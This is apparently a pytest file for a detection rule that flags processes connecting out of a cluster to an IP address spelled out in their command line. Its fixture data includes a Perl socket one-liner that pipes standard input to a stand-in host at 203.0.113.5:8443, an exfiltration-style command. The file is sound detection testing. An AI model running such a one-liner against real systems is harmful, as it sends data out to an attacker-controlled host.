"""A connection out of the cluster to an address the command line spells out (``findings._typed_address``)."""

from __future__ import annotations

import polars as pl

from kernelsec_nb.findings._typed_address import typed_destinations

CONNS = pl.DataFrame({
    "exec_id": ["perl", "curl", "near", "probe", "agent"],
    "src_workload": ["db", "cart", "db", "db", "db"],
    "dst_ip": ["203.0.113.5", "151.101.2.132", "203.0.113.5", "10.96.0.10", "198.51.100.20"],
    "dst_port": [8443, 443, 8443, 53, 443], "time_ns": [1, 2, 3, 4, 5], "event_id": ["f1", "f2", "f3", "f4", "f5"]})
PROCS = pl.DataFrame({"exec_id": ["perl", "curl", "near", "probe", "agent"], "args": [
    "-MIO::Socket::INET -e '$s=IO::Socket::INET->new(PeerAddr=>\"203.0.113.5:8443\");print $s <STDIN>'",
    "-sI https://api.stripe.example/v1",   # a host name: resolved, not typed
    "--relay 203.0.113.55",                  # another address that begins alike
    "@10.96.0.10 example.com",               # inside the cluster
    "--server 198.51.100.20:443"]})          # the workload's routine destination


def test_a_one_liner_that_reached_the_address_it_spells_out_is_a_detection():
    routine = pl.DataFrame({"src_workload": ["db"], "dst": ["198.51.100.20"], "dst_port": [443], "reason": ["all day"]})
    ev = typed_destinations(CONNS, routine, PROCS)
    assert ev.select("exec_id", "kind", "rule_id", "event_id").rows() == [
        ("perl", "detection", "engine:typed_address", "f1")]
    assert "203.0.113.5:8443" in ev["text"][0]


def test_without_the_routine_the_agents_typed_address_counts_too():
    assert sorted(typed_destinations(CONNS, None, PROCS)["exec_id"].to_list()) == ["agent", "perl"]
